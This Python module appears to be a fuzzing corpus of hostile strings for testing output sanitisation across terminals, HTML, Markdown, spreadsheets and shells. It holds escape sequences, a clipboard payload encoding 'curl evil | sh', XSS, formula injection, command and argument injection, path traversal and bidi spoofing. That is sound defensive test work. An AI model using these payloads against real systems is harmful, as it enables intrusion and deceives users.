"""Texts that mean harm to a terminal, to a markup language, to a spreadsheet, or to the eye."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ESC, BEL, ST, ST_8, CSI_8 = "\x1b", "\x07", "\x1b\\", "\x9c", "\x9b"
WORD = "pay"
"""Stands beside what does harm, so that a text is never empty."""

# The final bytes and parameters of CSI sequences: colours, cursor, erasing, scrolling, modes, reports.
_CSI = r"""
    31m 0m 1;5;7m 8m 38;5;196m 38;2;1;2;3m 48:2::9:9:9m 4:3m 58;5;1m ?4m A 9999B 9C D E F 1G H 1;1H 999;999f 0d
    6` 3a 3e Z 5I J 1J 2J 3J ?2J K 1K 2K 2L 2M 9P 9X 9@ 5S 5T 9b 0q s u r 1;1r 5;5s !p >4;2m >1u =1;1u <u ?u $p
    ?2026$p 1$} 2$~ 4h 20h ?1h ?3h ?5h ?6h ?7l ?12h ?25l ?40h ?47h ?66h ?69h ?1000h ?1002h ?1003h ?1004h ?1005h
    ?1006h ?1015h ?1049h ?2004h ?2004l ?2026h 5n 6n ?6n ?15n ?26n c >c =c >q 0x 1x 11t 14t 18t 19t 20t 21t 1t 2t
    3;0;0t 4;9;9t 5t 8;1;1t 9;1t 22;0t 23;0t 5i 4i ?5i 200~x 201~y
"""
# Operating system commands: titles, colours, links, the clipboard, notices, files, shell marks, palettes.
_OSC = """
    0;title 1;icon 2;title 3;PROP=x 4;1;#f00 4;1;? 5;0;red 6;1;bg;red 7;file://h/etc 8;;http://evil.example/
    8;id=1;file:///etc/passwd 8;;javascript:alert(1) 8;; 9;notice 9;4;1;50 10;#fff 10;? 11;#000 11;? 12;red 13;?
    17;? 19;? 22;wait 50;font 50;? 51;A[1] 52;c;Y3VybCBldmlsIHwgc2gK 52;c;? 52;p;ZXZpbA== 52;;! 66;s=3;big
    99;i=1;note 104;1 110 111 112 117 119 133;A 133;C;cmd 176;app 440;x 633;E;reboot;n 666;x=1 697;x
    777;notify;a;b 777;precmd 1337;File=inline=1:R0lG 1337;SetUserVar=a=Yg== 1337;Copy=:eA== 1337;CurrentDir=/
    1337;RequestAttention=yes 1337;StealFocus 1337;ClearScrollback 5522;x I;/tmp/x L;label l;title P1ff0000 R
    99999999999999999999;x
"""
_STRINGS = {
    "P": (  # DCS: sixel, reports, tmux passthrough, user keys, terminfo
        *("q#0;2;0;0;0#0~~@@vv", "0;1;0q~", "$q m", "$qq", "+q544e", "+p544e", "=1s", "1000p"),
        "tmux;\x1b\x1b]0;x\x07",
        *("1;1|17/68656c6c6f", ">|x", "{ @x", "!u", "2$t1/2", "@kitty-cmd{}"),
    ),
    "_": ("Gf=32,s=1,v=1;AAAA", "Ga=T,f=100,t=f;L2V0Yw==", "Ga=d", "Gi=31,a=q;AAAA", "x", "tmux;"),
    "^": ("private", "tmux;x", ""),
    "X": ("start of string", "x" * 300, ""),
    "k": ("screen title", "title\x1b[2J"),
}
_EIGHT_BIT = {"P": "\x90", "_": "\x9f", "^": "\x9e", "X": "\x98", "k": "\x1bk"}
_ESCAPES = (
    *"cDEHMNOZ78=><nol|}~gb`",
    *(
        "#3",
        "#4",
        "#6",
        "#8",
        "%@",
        "%G",
        "%/I",
        "(0",
        "(B",
        ")0",
        "*A",
        "+B",
        "-A",
        ".A",
        "/A",
        " F",
        " G",
        "^",
        "V",
    ),
    *("W", "6", "9", "[", "]", "P", "X", "_", "\\", "?", "0", "a", " ", "\x1b", "\x07", "\x18", "\x1a"),
)
# Orders of writing, marks that show nothing, breaks that are none to the eye.
_INVISIBLE = (
    *(
        "\u061c",
        "\u200b",
        "\u200e",
        "\u200f",
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u2060",
        "\u2061",
    ),
    *(
        "\u2062",
        "\u2063",
        "\u2064",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u206a",
        "\u206f",
        "\ufeff",
        "\ufff9",
    ),
    *(
        "\ufffa",
        "\ufffb",
        "\u180e",
        "\u034f",
        "\u115f",
        "\u1160",
        "\u3164",
        "\uffa0",
        "\u17b4",
        "\u17b5",
        "\u2028",
    ),
    *("\u2029", "\x85", "\U000e0001", "\U000e0020", "\U000e0041", "\U000e007f", "\U0001d173", "\U0001bca0"),
    *("\ud800", "\udbff", "\udc00", "\udc80", "\udcff", "\udfff", "\U000110bd", "\u0600", "\u06dd", "\u070f"),
)
_TRICKS = (
    # lines that write over others, and lines that are more than one
    *(
        "paid\rOPEN",
        "12\b\b99",
        "x\x7fy",
        "a\vb",
        "a\fb",
        "a\nb",
        "a\r\nb",
        "a\n\rb",
        "\n\n\n",
        "\t\t",
        "a\tb",
        "\r",
    ),
    *(
        "ok\n$ rm -rf ~",
        "x\rrel: done",
        "\x00",
        "a\x00b",
        "\x0e\x0f",
        "\x11\x13",
        "\x16\x03",
        "\x05",
        "\x1a",
        "\x04",
    ),
    *("\x1c\x1d\x1e\x1f", "\x84", "\x88", "\x8d", "\x8e", "\x8f", "\x80\x81\x99\x9a"),
    # half of a sequence, which the next text of ours would finish
    *(ESC, CSI_8, ESC + "[", ESC + "[38;2", ESC + "]", ESC + "]8;;http://x", ESC + "P", ESC + "_G", ESC + "[?"),
    *(ST, ST_8, BEL, ESC + "(", ESC + " ", "[31m", "]0;x", "8;;", ESC + "]52;c;", "\x90q", "\x9d0;x"),
    # one inside another
    *(ESC + "[3" + ESC + "[1m1m", ESC + ESC + "[2J", ESC + "[" + "1;" * 500 + "m", ESC + "]0;" + "x" * 5000 + BEL),
    *(ESC + "]0;a" + ESC + "]0;b" + BEL + BEL, ESC + "P" + ESC + "P" + ST + ST, ESC + "[\x002J", ESC + "\x00[2J"),
    *(ESC + "[2\rJ", ESC + "[2\nJ", CSI_8 + ESC + "[2J", ESC + "[9999999999999999999999999999A", ESC * 200),
    *("\u202e" + ESC + "[2J\u202c", ESC + "\u202e[2J", "\ufeff" + ESC + "[2J", "ﬀ" + CSI_8 + "2J"),
    # UTF-8 read as 8-bit, and bytes that Python could not decode
    *("\xc2\x9b2J", "\xc2\x9d0;x\xc2\x9c", "\udc9b2J", "\udc9d0;x\udc9c", "\udcc2\udc9b2J", "\udce2\udc80\udcae"),
    *("\ud83d\ude00", "\ude00\ud83d", "\udbff\udfff", "\ud83d" * 9),
    # towers, shapes and names that are not what they seem
    *("Z" + "\u0300" * 2000, "Z" + "\u0489\u0337\u0322" * 100, "\u0300" * 50, "\u20dd" * 40, "e" + "\ufe0f" * 300),
    *("葛" + "\U000e0100" * 3, "a" + "\U000e0101" * 200, "👩" + "\u200d👩" * 40, "\u200d" * 3, "\u00ad" * 3),
    *(
        "user\u202etxt.exe",
        "access\u2066 // admin\u2069 \u2066",
        "if\u200bany",
        "pa\u200dyp",
        "раураl",
        "ａｄｍｉｎ",
    ),
    *("\ufffe", "\uffff", "\U0010ffff", "\ue000", "\U000f0000", "\u2800" * 5, "\u3000", "\u00a0", "\u2007\u202f"),
    *("\u0e33" * 30, "ﷺ" * 20, "꧅" * 9, "𒐫" * 9, "\U0001f1e9" * 9, "😀" * 100, "漢" * 200, "x" * 10_000),
)


def _terminal() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"{WORD}{chr(code)}{WORD}"
    for head, tail in product((ESC + "[", CSI_8), _CSI.split()):
        yield f"{WORD}{head}{tail}{WORD}"
    for index, body in enumerate(_OSC.split()):
        yield f"{ESC}]{body}{(BEL, ST)[index % 2]}{WORD}"
        yield f"\x9d{body}{(ST_8, BEL, ST)[index % 3]}{WORD}"
    for kind, bodies in _STRINGS.items():
        for body in bodies:
            yield f"{ESC}{kind}{body}{ST}{WORD}"
            yield f"{_EIGHT_BIT[kind]}{body}{ST_8}{WORD}"
            yield f"{ESC}{kind}{body}"
    for escape in _ESCAPES:
        yield f"{WORD}{ESC}{escape}{WORD}"
    for invisible in _INVISIBLE:
        yield f"{WORD}{invisible}{WORD[::-1]}"
        yield invisible * 3
    yield from _TRICKS


_RICH = (
    *("[bold]", "[/]", "[/bold]", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[@click=app.quit]x[/]"),
    *("[blink reverse]", "[on red]", "[#ff0000]x", "[rgb(1,2,3)]x", "[not bold]", "[conceal]x[/]", "[b][i][u][s]"),
    *(
        "\\[bold]",
        "\\\\[bold]",
        "[[bold]]",
        "[bold",
        "bold]",
        "[/red][/red]",
        "[]",
        "[ ]",
        "[/ ]",
        "[link]",
        "[=]",
    ),
    *(":skull:", ":pile_of_poo:", ":smiley-text:", "[link=file:///etc/passwd]x", "[bold]" * 300, "[/]" * 300),
)
_GAPS = (
    "{who}",
    "{name}",
    "{n:days}",
    "{0}",
    "{",
    "}",
    "{{x}}",
    "{x!r}",
    "{text.__class__}",
    "%s",
    "%(name)s",
    "$HOME",
)
_HTML = (
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<b>x</b>",
        "</td></table>",
    ),
    *(
        "<!--",
        "-->",
        "<![CDATA[x]]>",
        "<?php x ?>",
        "<!DOCTYPE x>",
        "&lt;b&gt;",
        "&amp;",
        "&#x1b;[2J",
        "&#27;",
        "&nbsp;",
    ),
    *(
        '" onmouseover="x',
        "' onfocus='x",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe src=//x>",
        "<style>*{}</style>",
    ),
    *(
        "<base href=//x>",
        "<meta http-equiv=refresh>",
        "<form action=x>",
        "<x:y/>",
        "<http://evil.example>",
        "<a@b.example>",
    ),
)
_MARKDOWN = (
    *(
        "[x](http://evil.example)",
        "![x](http://evil.example/p.png)",
        "[x][1]",
        "[1]: http://evil.example",
        "[x]",
        "![]()",
    ),
    *(
        "](http://evil.example)[",
        "](javascript:alert(1))",
        "**bold**",
        "__bold__",
        "*it*",
        "_it_",
        "~~gone~~",
        "***",
    ),
    *(
        "`code`",
        "``",
        "```sh\nrm -rf ~\n```",
        "~~~",
        "# head",
        "head\n===",
        "head\n---",
        "===",
        "---",
        "- list",
        "+ list",
    ),
    *(
        "1. list",
        "1) list",
        "999999999. list",
        "> quote",
        "| a | b |",
        "|---|---|",
        "    code",
        "\tcode",
        "line  ",
        "x\\",
    ),
    *(
        "\\",
        "\\\\",
        "- [ ] task",
        "[^1]",
        "[^1]: note",
        "$x^2$",
        "==mark==",
        "a\n\n# head",
        "@user",
        "#1",
        "http://evil.example",
    ),
    *("www.evil.example", "&copy;", "!", "![", "<br>", "*a*b*", "*" * 200, "[" * 200, "`" * 99),
)
_FORMULA = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example","x")',
        "=1+1;=2+2",
    ),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", '"=1+1"', '",=1+1', '"\n=1+1', ",=1+1", ";=1+1"),
    *(
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "\ufeff=1+1",
        "\x00=1+1",
        "\u200b=1+1",
        "\xa0=1+1",
        "\u3000=1+1",
        "\x1b=1+1",
    ),
    *("=WEBSERVICE(A1)", "=IMPORTXML(A1)", "=DDE(1)", "%0A=1", "−1+1", "﹣1", "⁺1", "﹦1"),
)
_LINES = (
    *(
        "a\r\nEND:VCARD",
        "a\nATTACH:file:///etc",
        "a\n continued",
        "a\\nb",
        "a;b,c:d",
        "BEGIN:VEVENT",
        "x\r\n\r\nBody",
    ),
    *(
        "a\nBcc: all@example.org",
        "a%0d%0aBcc:x",
        "--upload-pack=touch x",
        "-o ProxyCommand=x",
        "$(id)",
        "`id`",
        "; id",
    ),
    *(
        "../../etc/passwd",
        "~root",
        "'; DROP TABLE x",
        "&xxe;",
        "../\x1b[2J",
        "C:\\nul",
        "\\\\host\\share",
        "-",
        "--",
    ),
)


def _distinct(texts: Iterator[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(texts))


TERMINAL = _distinct(_terminal())
"""What acts on a terminal, or deceives whoever reads it."""
MARKUP = _distinct(iter((*_RICH, *_GAPS, *_HTML, *_MARKDOWN, *_FORMULA, *_LINES)))
"""What Rich, a template, HTML, Markdown, a spreadsheet, a calendar, a mail or a shell could take for its own."""
ALL = _distinct(iter((*TERMINAL, *MARKUP)))


def told(text: str) -> str:
    """A payload as a failure shows it: ASCII, whole up to a good length."""
    shown = ascii(text)
    return shown if len(shown) < 120 else f"{shown[:100]}… ({len(text)} characters)"


def as_argument(text: str) -> str:
    """A payload as a command line can hold it: no NUL, and only those surrogates that stand for bytes."""
    return "".join(
        "?"
        if character == "\0" or "\ud800" <= character < "\udc80" or "\udd00" <= character <= "\udfff"
        else character
        for character in text
    )


def as_file_name(text: str) -> str:
    """A payload as a folder can hold it: an argument without a slash, of at most 180 bytes."""
    name = as_argument(text).replace("/", "?").encode("utf-8", "surrogateescape")[:180]
    return name.decode("utf-8", "surrogateescape").strip(".") or "x"
